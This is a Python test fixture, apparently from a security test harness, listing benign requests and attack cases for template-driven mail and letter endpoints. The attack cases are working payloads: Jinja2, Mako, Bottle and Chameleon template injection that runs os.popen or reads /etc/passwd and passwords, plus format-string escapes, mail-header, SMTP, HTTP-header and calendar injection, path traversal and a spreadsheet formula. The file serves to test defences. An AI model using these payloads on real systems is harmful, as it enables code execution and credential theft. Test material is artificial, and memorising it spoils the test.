"""Mails and letters from templates."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.thirteenth import (
    HOWTO,
    MARKUP,
    MOAN,
    PERSONS,
    PLACES,
    REGEX,
    SOURCE,
    TALE,
    bridge,
    call,
    filled,
    get,
    post,
    sns,
    sqs,
)

NEEDS = ()
PASSWORD = "herald-smtp-8842"
SIGNING = "herald-sign-3317"


def _campaign(template: str, *names: str) -> dict[str, object]:
    return post(
        "/campaign", template=template, readers=[{"name": n, "city": PLACES[1]} for n in names or ("Ada",)]
    )


def _keep(name: str, text: str) -> dict[str, object]:
    return call("PUT", "/templates/{name}", {"text": text}, ids={"name": name})


def _send(template: str, **data: object) -> dict[str, object]:
    return sqs({"template": template, "to": "niamh@example.net", "data": data})


def _letter(letter: str, name: str = "Niamh O'Sullivan") -> dict[str, object]:
    return post("/letter", letter=letter, name=name, mail="niamh@example.net")


def _mail(text: str, subject: str, extra: str = "") -> dict[str, object]:
    content = f"From: {PERSONS[0]} <n@example.net>\nSubject: {subject}\nMIME-Version: 1.0\n{extra}\n{text}"
    return sns({"content": content, "receipt": {}})


def _receipt(pattern: str = "", **more: object) -> dict[str, object]:
    return post("/receipt", shop="O'Brien's & Co.", total="12.5", number="R-1", pattern=pattern, **more)


REQUESTS = {
    "invoice": [
        post(
            "/i",
            number="R-1",
            customer=PERSONS[2],
            lines=[{"text": MARKUP, "price": 9.5}, {"text": "2x {{ 7*7 }}", "price": 1}],
        ),
        post("/i", number="{% x %}", customer=PERSONS[5], lines=[]),
        post(
            "/i",
            number="2026/04",
            customer="{{ settings.smtp_password }}",
            lines=[{"text": MOAN, "price": 0}],
        ),
    ],
    "greeting": [
        get("/g", name="Niamh O'Sullivan"),
        get("/g", name="李小龍 & friends"),
        get("/g", name='Zoë "Zed" <3; -- 100% {x}'),
        get("/g", name="Dr. #1 $mith"),
    ],
    "greeting_escaped": [
        get("/g", name="{{ settings }}"),
        get("/g", name=MARKUP),
        get("/g", name=PERSONS[6]),
    ],
    "campaign": [
        _campaign("Dear {{ name }}, it's {{ city }}'s biggest sale -- 50% off; select yours!"),
        _campaign(
            "{% if city %}Hi {{ name|upper }} in {{ city[:10] }}{% else %}Hi!{% endif %}", *PERSONS[:3]
        ),
        _campaign('<p style="x">{{ name|trim }} &amp; co</p>{# a note #}', PERSONS[4]),
        _campaign("{{ name|e }} in {{ city|lower }} {{ year }}", PERSONS[5]),
    ],
    "campaign_sandboxed": [
        _campaign("Dear {{ name }}"),
        _campaign("{{ name.__class__ }}"),
        _campaign("{{ name|title }} {{ 7 * 7 }} {% set x = 'a;b' %}{{ x }}", *PERSONS),
        _campaign("Dear {{ name"),
    ],
    "save_template": [
        _keep("spring", "Hello {{ name }}, don't miss it -- {{ offer }}!"),
        _keep("o'brien; 2", MARKUP.replace("{% raw %}", "")),
        _keep("plain", MOAN),
    ],
    "send_saved": [
        _send("welcome", name=PERSONS[0], team="R&D; west"),
        _send("welcome", name="{{ 7*7 }}", team=SOURCE),
        _send("none' --"),
    ],
    "formatted": [
        _letter("Dear {0.name},\nyour address {0.mail} is confirmed on {today:%d.%m.%Y}; it's 100% done."),
        _letter("{0.name!r:>30} | {{literal}}", PERSONS[6]),
        _letter("No fields at all -- {nothing}"),
        _letter("Half a { brace"),
    ],
    "formatted_dict": [
        post("/l", letter="Dear {name}, {0.__class__} {missing}", fields={"name": PERSONS[1]}),
        post("/l", letter=HOWTO, fields={"curly": "{name}"}),
        post("/l", letter="{a}{b}{a}", fields={"a": MARKUP, "b": 5}),
    ],
    "dollar": [
        post(
            "/d",
            text="Dear $name, it costs $5 or ${amount} -- $$!",
            fields={"name": PERSONS[0], "amount": "12;50"},
        ),
        post("/d", text="Sent by $SENDER to $unknown", fields={}),
        post("/d", text=HOWTO, fields={"x": MARKUP}),
    ],
    "dollar_own": [
        post("/d", name="$text ${name}", text=SOURCE),
        post("/d", name=PERSONS[3], text=TALE),
        post("/d", name="$SMTP_PASSWORD", text=REGEX),
    ],
    "percent": [
        bridge("Order", {"kind": "shipped", "order": "A-1", "city": "St. John's; NL (100%)"}),
        bridge("Order", {"kind": "paid", "order": "%(amount)s", "amount": "12,50 €"}),
        bridge("Order", {"kind": "paid", "order": "'; --"}),
    ],
    "mako_page": [
        post("/m", title="Spring Sale: it's 50% off", text=MARKUP),
        post("/m", title="Only $5 & up -- {today}; #1", text="${7*7}"),
        post("/m", title="Café <em>Ouvert</em>", text=SOURCE),
    ],
    "mako_values": [
        post("/m", title="${1+1}", lines=["<%! import os %>", "% for x in y:"]),
        post("/m", title=PERSONS[2], lines=[MOAN, HOWTO]),
        post("/m", title="x"),
    ],
    "bottle_badge": [
        get("/b", text="build: passing", colour="#0f0; --"),
        get("/b", text="it's v1.0 & 100% (beta)"),
        get("/b", text="O'Brien {x}", colour="red'\""),
    ],
    "bottle_values": [
        get("/b", text="{{1+1}}"),
        get("/b", text=MARKUP, big="1"),
        get("/b", text="% import os"),
    ],
    "zpt": [
        post("/z", name=PERSONS[0], note="<p>See you at 5 o'clock; gate 3</p>"),
        post("/z", name="${1+1}", note="<b>100% free</b> -- costs $0"),
        post("/z", name=MARKUP),
    ],
    "zpt_values": [
        post("/z", items=["${os.environ}", PERSONS[1]]),
        post("/z", items=[MARKUP, REGEX]),
        post("/z", items=[]),
    ],
    "contact": [
        filled("/c", email="o'brien@example.net", subject="Question; re: offer -- 50%", message=MOAN),
        filled("/c", email="a+b@example.net", subject="Ärger & mehr: <x>", message=HOWTO),
        filled("/c", email="x@example.net", message="To: all\nBcc: none, this is prose\n" + TALE[:900]),
        filled("/c", message="hi"),
    ],
    "contact_message": [
        filled("/c", email="n@example.net", subject="It's (not) urgent: a, b; c", message=SOURCE),
        filled("/c", email="x@example.net", subject="a\r\nBcc: all@example.net", message="x"),
        filled("/c", subject="\U0001f600 émoji", message=MOAN),
    ],
    "newsletter": [
        sqs(
            {"subject": "Don't miss; 50% off", "name": PERSONS[2], "address": "z@example.net", "text": HOWTO}
        ),
        sqs(
            {"subject": "A", "name": PERSONS[4], "address": "l@example.net", "text": MARKUP},
            {"subject": "\U0001f384", "name": "", "address": "o'b@example.net", "text": "*it's*"},
        ),
        sqs({"subject": REGEX, "name": PERSONS[6], "address": "x@example.net", "text": SOURCE}),
    ],
    "smtp_lines": [
        {"mail": {"from": "n@example.net", "to": "o'brien+x@example.net"}},
        {"mail": {"from": "", "to": "postmaster@[192.0.2.1]"}},
        {"mail": {"from": "a@example.net", "to": '"a b; c"@example.net'}},
    ],
    "verify_address": [
        get("/v", address="Niamh O'Sullivan <n.o'sullivan@example.net>"),
        get("/v", address='"x; DROP"@example.net'),
        get("/v", address="no address -- at all"),
        get("/v", address="ü@exämple.net"),
    ],
    "inbound": [
        _mail(MOAN, "Re: it's late"),
        _mail(SOURCE, "=?utf-8?q?caf=C3=A9=3B_--?=", 'Content-Type: text/plain; charset="utf-8"\n'),
        _mail(
            "--b\nContent-Type: text/plain\n\nsee file\n--b\nContent-Type: text/csv\n"
            'Content-Disposition: attachment; filename="../O\'Brien; (1).csv"\n\na,b\n--b--\n',
            "files",
            'Content-Type: multipart/mixed; boundary="b"\n',
        ),
    ],
    "partial": [get("/p", name="invoice"), get("/p", name="invoice.html"), get("/p", name="./invoice.html")],
    "partial_loaded": [
        get("/p", name="invoice.html"),
        get("/p", name="../app.py"),
        get("/p", name="x'y.html"),
    ],
    "page_markup": [
        post("/u", id="a/b?c", name=MARKUP, note="{0.__class__}"),
        post("/u", id="{}", name="{name.__globals__}", note=PERSONS[5]),
        post("/u", id="o'b", name=PERSONS[6]),
    ],
    "calendar": [
        post("/c", title="Team day; bring shoes", place=PLACES[0]),
        post("/c", title="O'Brien & Zoë: 1:1 (50%)", place="https://meet.example.org/a?b=c#d"),
        post("/c", title="Retro -- what's next?"),
    ],
    "calendar_folded": [
        post("/c", title=MOAN),
        post("/c", title="a\nEND:VEVENT\nBEGIN:VEVENT"),
        post("/c", title=HOWTO),
    ],
    "sheet": [
        post("/s", rows=[["name", "n"], [PERSONS[0], 3], ["=SUM(A1:A9)", 1.5]]),
        post("/s", rows=[["-5", "@x", "+353 1 555"], [MARKUP, None, True]]),
        post("/s", rows=[[MOAN], [SOURCE], ["=cmd|' /C calc'!A0"]]),
    ],
    "markdown_page": [
        call("POST", "/md", HOWTO),
        call("POST", "/md", MARKUP),
        call("POST", "/md", "| a | b |\n|--|--|\n| `x'; --` | {{ y }} |"),
        call("POST", "/md", TALE),
    ],
    "translated": [
        get("/t", name=PERSONS[0], n="2", lang="de"),
        get("/t", name="100% %(n)d", lang="zh_TW"),
        get("/t", name="x", n="1"),
    ],
    "receipt_fstring": [
        _receipt(),
        _receipt("{shop} -- {number}: {total:>10.2f} EUR; it's paid"),
        _receipt("Total {total:,.1f} ({number!r})", note=MOAN),
        _receipt("{shop:^30} #{number}"),
    ],
    "cookie_banner": [
        call("GET", "/"),
        get("/", lang="pt-BR"),
        get("/", lang="de-DE,de;q=0.9"),
        get("/", lang="zh-Hant"),
    ],
    "merge": [
        post("/m", names=list(PERSONS), text=MOAN),
        post("/m", names=["${1+1}"], text="<%! import os %>\n% if x:\n"),
        post("/m", names=[], text=""),
    ],
}

ATTACKS = [
    Attack("template, jinja2", "greeting", get("/g", name="{{ settings.smtp_password }}"), PASSWORD),
    Attack(
        "template, jinja2",
        "greeting",
        get("/g", name="{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').readline() }}"),
        "root:x:0:0",
    ),
    Attack(
        "template, jinja2",
        "greeting",
        get(
            "/g", name="{% set c = cycler.__init__.__globals__ %}{{ c.os.popen('echo pwn$((40+2))').read() }}"
        ),
        "pwn42",
    ),
    Attack(
        "template, jinja2",
        "greeting",
        get("/g", name="{{ settings|attr('\\x67et')('smtp_password') }}"),
        PASSWORD,
    ),
    Attack(
        "template, jinja2",
        "campaign",
        _campaign("{{ lipsum.__globals__['os'].popen('head -1 /etc/passwd').read() }}"),
        "root:x:0:0",
    ),
    Attack(
        "template, jinja2",
        "campaign",
        _campaign(
            "{{ name['__cla'~'ss__']['__mro__'][1]['__subcl'~'asses__']()|length > 99 }} {{ joiner.__init__.__globals__.os.sep * 3 }}x"
        ),
        "///x",
    ),
    Attack(
        "template, jinja2",
        "campaign",
        _campaign(
            "{% for k, v in namespace.__init__.__globals__.items() if k == '__file__' %}{{ v }}{% endfor %}"
        ),
        "jinja2/utils.py",
    ),
    Attack(
        "template, jinja2",
        "campaign",
        _campaign(
            "{{ (name|attr('__class__')|attr('__base__')|attr('__subclasses__')())|map(attribute='__name__')|select('eq', '_wrap_close')|first }}"
        ),
        "_wrap_close",
    ),
    Attack(
        "template, second order",
        "send_saved",
        _send("news"),
        "root:x:0:0",
        before=[
            (
                "save_template",
                _keep(
                    "news",
                    "{{ url_for or cycler.__init__.__globals__.os.popen('head -n1 /etc/passwd').read() }}",
                ),
            )
        ],
    ),
    Attack(
        "template, second order",
        "send_saved",
        _send("mail", a="__globals__", b="__init__"),
        "pwn-9",
        before=[
            (
                "save_template",
                _keep("mail", "{{ joiner[b][a]['os']['popen']('expr 10 - 1 | sed s/^/pwn-/').read() }}"),
            )
        ],
    ),
    Attack("format", "formatted", _letter("{0.settings.token}"), SIGNING),
    Attack("format", "formatted", _letter("{0.__init__.__globals__[SMTP_PASSWORD]}"), PASSWORD),
    Attack(
        "format",
        "formatted",
        _letter("{0.settings.__class__.__repr__.__globals__[SIGNING][key]!s:>20}"),
        SIGNING,
    ),
    Attack(
        "template, mako",
        "mako_page",
        post("/m", title="${open('/etc/passwd').readline()}", text=""),
        "root:x:0:0",
    ),
    Attack(
        "template, mako",
        "mako_page",
        post("/m", title="<%\nimport os\nx = os.popen('echo pwn$((6*7))').read()\n%>${x}"),
        "pwn42",
    ),
    Attack(
        "template, mako",
        "mako_page",
        post("/m", title="x</h1>\n% for l in open('/etc/passwd'):\n${l}\n% endfor\n<h1>"),
        "root:x:0:0",
    ),
    Attack(
        "template, mako",
        "mako_page",
        post("/m", title="${self.module.cache.util.os.popen('printf %s-%s p wn').read()}"),
        "p-wn",
    ),
    Attack(
        "template, bottle",
        "bottle_badge",
        get("/b", text="{{__import__('os').popen('echo pwn$((5+5))').read()}}"),
        "pwn10",
    ),
    Attack(
        "template, bottle",
        "bottle_badge",
        get("/b", text="\n% import sys\n{{sys.modules['app'].SMTP_PASSWORD}}"),
        PASSWORD,
    ),
    Attack(
        "template, bottle",
        "bottle_badge",
        get("/b", text="\n% for l in open('/etc/passwd'):\n{{l}}\n% end\n"),
        "root:x:0:0",
    ),
    Attack(
        "template, chameleon",
        "zpt",
        post("/z", name="x", note="<p>${open('/etc/passwd').readline()}</p>"),
        "root:x:0:0",
    ),
    Attack(
        "template, chameleon",
        "zpt",
        post(
            "/z", name="x", note="<p tal:content=\"python: __import__('sys').modules['app'].SMTP_PASSWORD\"/>"
        ),
        PASSWORD,
    ),
    Attack(
        "template, chameleon",
        "zpt",
        post("/z", name="x", note="<?python import os; y = os.popen('echo pwn$((7*3))').read() ?>${y}"),
        "pwn21",
    ),
    Attack(
        "mail header",
        "contact",
        filled("/c", email="x@example.net\nBcc: victims@example.net", message="buy"),
        "victims@example.net",
    ),
    Attack(
        "mail header",
        "contact",
        filled(
            "/c", email="x@example.net", subject="hi\r\nBcc: one@example.net,two@example.net", message="buy"
        ),
        "two@example.net",
    ),
    Attack(
        "mail header",
        "contact",
        filled("/c", email="x@example.net\nTo: board@example.net", subject="x", message="buy"),
        "board@example.net",
    ),
    Attack(
        "SMTP",
        "smtp_lines",
        {"mail": {"from": "a@example.net", "to": "b@example.net>\r\nRCPT TO:<c@example.net"}},
        '"recipients": 2',
    ),
    Attack(
        "SMTP",
        "smtp_lines",
        {"mail": {"from": "a@example.net>\r\nRCPT TO:<spam@example.net>\r\nNOOP <", "to": "b@example.net"}},
        '"recipients": 2',
    ),
    Attack("path", "partial", get("/p", name="../app.py"), PASSWORD),
    Attack("path", "partial", get("/p", name="../../../../../../../../../../../../etc/passwd"), "root:x:0:0"),
    Attack(
        "calendar lines", "calendar", post("/c", title="x\r\nATTACH:file:///etc/passwd"), "\\r\\nATTACH:file"
    ),
    Attack(
        "calendar lines",
        "calendar",
        post("/c", title="x", place="y\nATTENDEE:mailto:all@example.net"),
        "\\nATTENDEE:mailto",
    ),
    Attack(
        "Python, f-string",
        "receipt_fstring",
        _receipt(
            "{[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['popen']('echo pwn$((9*9))').read()}"
        ),
        "pwn81",
    ),
    Attack(
        "Python, f-string",
        "receipt_fstring",
        _receipt("{shop.__class__.__mro__[-1].__subclasses__().__len__() > 50 and 'in'+'side'}"),
        "inside",
    ),
    Attack("header", "cookie_banner", get("/", lang="x\r\nSet-Cookie: session=stolen"), "session=stolen"),
    Attack("header", "cookie_banner", get("/", lang="x\nX-Admin: 1\nY: z"), "X-Admin"),
]
